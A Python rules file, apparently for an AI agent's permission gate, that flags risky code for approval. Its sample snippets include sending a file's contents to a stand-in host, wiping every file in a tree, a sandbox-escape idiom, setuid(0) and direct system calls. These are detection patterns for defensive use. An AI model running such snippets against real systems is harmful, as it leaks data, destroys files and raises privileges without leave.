"""Rules on Python code as a whole. What code does to files, programs and other machines is said in
the words of the command that does the same, and the rules on commands decide.
"""

from journeyman.gate.rule import Rule

PYTHON: tuple[Rule, ...] = (
    Rule(
        "code.unseen",
        "ask",
        "The code runs other code that cannot be seen beforehand.",
        ("exec(open('x.py').read())", "eval(input())"),
    ),
    Rule(
        "code.command",
        "ask",
        "The code runs a command that cannot be told beforehand.",
        ("import subprocess\nsubprocess.run(make())", "import os\nos.system(x)"),
    ),
    Rule(
        "code.hidden",
        "ask",
        "The code reaches functions in a way that hides which ones it calls.",
        ("import os\ngetattr(os, name)()", "().__class__.__base__.__subclasses__()"),
    ),
    Rule(
        "code.passed",
        "ask",
        "The code hands a function that runs commands or deletes files to something else.",
        ("import os\nlist(map(os.system, commands))",),
    ),
    Rule(
        "code.native",
        "ask",
        "The code calls the system directly, past everything that could look at it.",
        ("import ctypes\nctypes.CDLL(None).system(b'ls')",),
    ),
    Rule(
        "code.network",
        "ask",
        "The code opens a connection to another machine.",
        ("import socket\nsocket.create_connection(('a.example', 80))", "import paramiko"),
    ),
    Rule(
        "code.empties",
        "ask",
        "The code writes over every file that it finds, without having read it.",
        (
            "import glob\nfor f in glob.glob('*.py'):\n    open(f, 'w').close()",
            "import os\nfor d, _, fs in os.walk('.'):\n    for f in fs:\n"
            "        open(os.path.join(d, f), 'w').write('')",
        ),
    ),
    Rule(
        "code.sends",
        "ask",
        "The code puts what is in a file into a request to another machine.",
        (
            "from urllib.request import urlopen\n"
            "urlopen(f'http://x.example/{open(\"data.csv\").read()}')",
            "import requests\nrequests.get('http://x.example', params=open('a').read())",
        ),
    ),
    Rule(
        "code.rights",
        "ask",
        "The code changes the user it runs as.",
        ("import os\nos.setuid(0)",),
    ),
)
